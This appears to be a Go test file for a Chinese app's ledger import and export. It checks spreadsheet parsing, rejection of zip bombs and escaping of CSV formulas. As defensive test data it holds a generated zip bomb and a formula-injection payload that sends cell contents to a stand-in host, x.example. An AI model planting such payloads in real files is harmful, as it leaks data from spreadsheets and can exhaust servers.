@@ -1,0 +1,225 @@
+package app_test
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"mime/multipart"
+	"net/http"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+
+	"fugong/app/apptest"
+	"fugong/xlsx"
+	"fugong/xlsx/xlsxtest"
+)
+
+func officeFile(t *testing.T, name string) []byte {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join("..", "xlsx", "testdata", "office", name))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// The enterprises ledger as LibreOffice saves it — .xlsx with dates typed as dates
+// (m/d/yy and yyyy/m/d) and numbers in the phone column, LibreOffice's own CSV — and as
+// Chinese Excel saves a CSV (GBK, dates 2020/3/9, 2020.3.10, 2020年3月11日) previews
+// clean and commits the same; a credit code the spreadsheet took for a number, and a
+// date that is none, are named with what to do.
+func TestLedgerImportReadsWhatOfficesSave(t *testing.T) {
+	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
+		c := env.Login(t, "command")
+		status, page := upload(t, c, "enterprises", "企业台账.xlsx", officeFile(t, "enterprises-bad.xlsx"))
+		if status != http.StatusUnprocessableEntity || !strings.Contains(page, "第 2 行 · 统一社会信用代码：该格是数字") ||
+			!strings.Contains(page, "请把该列设为文本后重新输入") || !strings.Contains(page, "第 3 行 · 复工日期：日期无法识别") {
+			t.Fatalf("a code typed as a number and a date that is none: %d", status)
+		}
+		for _, name := range []string{"enterprises.xlsx", "enterprises-libreoffice.csv", "enterprises-gbk.csv"} {
+			status, page := upload(t, c, "enterprises", name, officeFile(t, name))
+			m := regexp.MustCompile(`/ledgers/uploads/(\d+)/commit`).FindStringSubmatch(page)
+			if status != http.StatusOK || m == nil {
+				t.Fatalf("%s: %d, no commit button: %s", name, status, regexp.MustCompile(`第 \d+ 行 · [^<]*`).FindAllString(page, -1))
+			}
+			if status, _, _ := c.Form("/ledgers/uploads/"+m[1]+"/commit", nil); status != http.StatusSeeOther {
+				t.Fatalf("%s: commit %d", name, status)
+			}
+			var got []string
+			rows, err := env.App.DB.R.Query(`SELECT uscc, resumed_on, monthly_rent, payroll FROM enterprises WHERE name LIKE '慈利办公%' ORDER BY name`)
+			if err != nil {
+				t.Fatal(err)
+			}
+			for rows.Next() {
+				var uscc, on string
+				var rent int64
+				var payroll int
+				rows.Scan(&uscc, &on, &rent, &payroll)
+				got = append(got, fmt.Sprint(uscc, " ", on, " ", rent, " ", payroll))
+			}
+			rows.Close()
+			want := "91430821205404746W 2020-03-09 350050 50|91430821205405116Y 2020-03-11 0 8|914308212054043756 2020-03-10 1200000 120" // 一, 三, 二
+			if strings.Join(got, "|") != want {
+				t.Errorf("%s committed %q, want %q", name, strings.Join(got, "|"), want)
+			}
+		}
+	})
+}
+
+// A workers ledger saved by LibreOffice, phones typed as numbers: the 贫困户 column is
+// read (it was dropped, every worker imported as not poor), a value that is neither 是
+// nor 否 is refused, and an ID number typed as a number is named.
+func TestWorkerImportReadsPoorHouseholdsAndCodes(t *testing.T) {
+	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
+		api := env.APIClient(t, "enterprise001")
+		var ent int64
+		env.App.DB.R.QueryRow(`SELECT enterprise_id FROM users WHERE username = 'enterprise001'`).Scan(&ent)
+		post := func(file []byte) (int, importAnswer) {
+			res := api.Do("POST", fmt.Sprintf("/api/v1/workers/import?enterprise_id=%d", ent), xlsx.ContentType, bytes.NewReader(file), nil)
+			defer res.Body.Close()
+			var a importAnswer
+			json.NewDecoder(res.Body).Decode(&a)
+			return res.StatusCode, a
+		}
+		status, a := post(officeFile(t, "workers-bad.xlsx"))
+		named := map[string]bool{}
+		for _, e := range a.Errors {
+			named[fmt.Sprintf("%d %s %s", e.Line, e.Column, e.Message)] = true
+		}
+		if status != http.StatusUnprocessableEntity || a.Committed || !named["2 贫困户 贫困户一栏应填“是”或“否”。"] ||
+			!named["3 身份证号 该格是数字 4.3082119880808E+017，表格已把后几位改写：请把该列设为文本后重新输入。"] {
+			t.Fatalf("bad ledger: %d %+v", status, a)
+		}
+		if status, a = post(officeFile(t, "workers.xlsx")); status != http.StatusOK || !a.Committed || a.Rows != 3 {
+			t.Fatalf("good ledger: %d %+v", status, a)
+		}
+		var poor int
+		var phone string
+		env.App.DB.R.QueryRow(`SELECT COUNT(*) FROM workers WHERE enterprise_id = $1 AND poor AND name IN ('王兵', '赵敏')`, ent).Scan(&poor)
+		env.App.DB.R.QueryRow(`SELECT phone_masked FROM workers WHERE enterprise_id = $1 AND name = '李娟'`, ent).Scan(&phone)
+		if poor != 2 || phone != "139****5679" {
+			t.Errorf("poor households %d, want 2; phone typed as a number %q", poor, phone)
+		}
+	})
+}
+
+// uploadTo posts a file as an upload form's "file" field, answering the status and page.
+func uploadTo(t *testing.T, c *apptest.Client, path, name string, body []byte) (int, string) {
+	t.Helper()
+	var b bytes.Buffer
+	mw := multipart.NewWriter(&b)
+	mw.WriteField("csrf", c.CSRF)
+	fw, _ := mw.CreateFormFile("file", name)
+	fw.Write(body)
+	mw.Close()
+	res := c.Do("POST", path, mw.FormDataContentType(), &b, nil)
+	page, _ := io.ReadAll(res.Body)
+	res.Body.Close()
+	return res.StatusCode, string(page)
+}
+
+type importAnswer struct {
+	Rows      int  `json:"rows"`
+	Committed bool `json:"committed"`
+	Errors    []struct {
+		Line    int    `json:"line"`
+		Column  string `json:"column"`
+		Message string `json:"message"`
+	} `json:"errors"`
+}
+
+// A zip bomb — a few MB that unpack to a GiB — is refused by every import at once with
+// what is wrong, before it is unpacked.
+func TestImportsRefuseZipBombs(t *testing.T) {
+	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
+		bomb := xlsxtest.Bomb("xl/worksheets/sheet1.xml", 1<<30)
+		const want = "文件解压后有 1024 MB，超过上限 64 MB"
+		c := env.Login(t, "command")
+		for _, path := range []string{"/demands/import", "/ledgers/enterprises/upload", "/power/upload"} {
+			status, page := uploadTo(t, c, path, "台账.xlsx", bomb)
+			if status != http.StatusUnprocessableEntity || !strings.Contains(page, want) {
+				t.Errorf("%s: %d, want 422 saying %q", path, status, want)
+			}
+		}
+		v := env.Login(t, "village001")
+		if status, page := uploadTo(t, v, "/job-seekers/import", "求职登记.xlsx", bomb); status != http.StatusUnprocessableEntity || !strings.Contains(page, want) {
+			t.Errorf("job seekers: %d, want 422 saying %q", status, want)
+		}
+		var ent int64
+		env.App.DB.R.QueryRow(`SELECT enterprise_id FROM users WHERE username = 'enterprise001'`).Scan(&ent)
+		workers := xlsxtest.Bomb("xl/sharedStrings.xml", 300<<20)
+		res := env.APIClient(t, "enterprise001").Do("POST", fmt.Sprintf("/api/v1/workers/import?enterprise_id=%d", ent), xlsx.ContentType, bytes.NewReader(workers), nil)
+		var e struct {
+			Error struct {
+				Fields map[string]string `json:"fields"`
+			} `json:"error"`
+		}
+		json.NewDecoder(res.Body).Decode(&e)
+		res.Body.Close()
+		if res.StatusCode != http.StatusUnprocessableEntity || !strings.HasPrefix(e.Error.Fields["file"], "文件解压后有 300 MB") {
+			t.Errorf("workers: %d %+v", res.StatusCode, e)
+		}
+	})
+}
+
+// Exports open as typed, safe spreadsheets: a name that would be a live formula in the
+// CSV is quoted, a date is a date cell (its serial number, shown 2020-03-09), a credit
+// code of digits only stays text; the scorecard's export link keeps the period shown.
+func TestExportsAreTypedAndSafe(t *testing.T) {
+	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
+		const formula = `=HYPERLINK("http://x.example/?"&B2,"查看")`
+		var uscc string
+		env.App.DB.R.QueryRow(`SELECT uscc FROM enterprises WHERE resumed_on = '2020-03-09' ORDER BY id LIMIT 1`).Scan(&uscc)
+		if _, err := env.App.DB.W.Exec(`UPDATE enterprises SET name = $1 WHERE uscc = $2`, formula, uscc); err != nil {
+			t.Fatal(err)
+		}
+		c := env.Login(t, "command")
+		res := c.Do("GET", "/ledgers/enterprises/export?format=csv", "", nil, nil)
+		body, _ := io.ReadAll(res.Body)
+		res.Body.Close()
+		if !strings.Contains(string(body), `"'=HYPERLINK(""http://x.example/?""&B2,""查看"")"`) || strings.Contains(string(body), `,"=HYPERLINK`) {
+			t.Errorf("the CSV carries the formula live")
+		}
+		res = c.Do("GET", "/ledgers/enterprises/export", "", nil, nil)
+		book, _ := io.ReadAll(res.Body)
+		res.Body.Close()
+		raw, err := xlsx.ReadXLSX(bytes.NewReader(book))
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, shown, err := xlsx.ReadTables(bytes.NewReader(book))
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := false
+		for _, r := range raw.Rows {
+			if r.Get("统一社会信用代码") != uscc {
+				continue
+			}
+			found = true
+			day, _ := xlsx.Day(r.Get("复工日期"))
+			if strings.Contains(r.Get("复工日期"), "-") || day != "2020-03-09" || shown["企业台账"][r.Line-1][15] != "2020-03-09" {
+				t.Errorf("复工日期 stored %q, shown %q", r.Get("复工日期"), shown["企业台账"][r.Line-1][15])
+			}
+		}
+		if !found || uscc == "" {
+			t.Errorf("the export has no row for %q", uscc)
+		}
+
+		_, page := c.Page("/liaison/scorecard?from=2020-02-20&to=2020-03-01")
+		m := regexp.MustCompile(`id="scorecard-export" href="([^"]+)"|href="([^"]+)" id="scorecard-export"`).FindStringSubmatch(page)
+		if m == nil {
+			t.Fatal("no export link")
+		}
+		link := strings.ReplaceAll(m[1]+m[2], "&amp;", "&")
+		res = c.Do("GET", link, "", nil, nil)
+		res.Body.Close()
+		if cd := res.Header.Get("Content-Disposition"); res.StatusCode != http.StatusOK || !strings.Contains(cd, "scorecard-2020-02-20-2020-03-01.xlsx") {
+			t.Errorf("the export link %q answers %d %q", link, res.StatusCode, cd)
+		}
+	})
+}
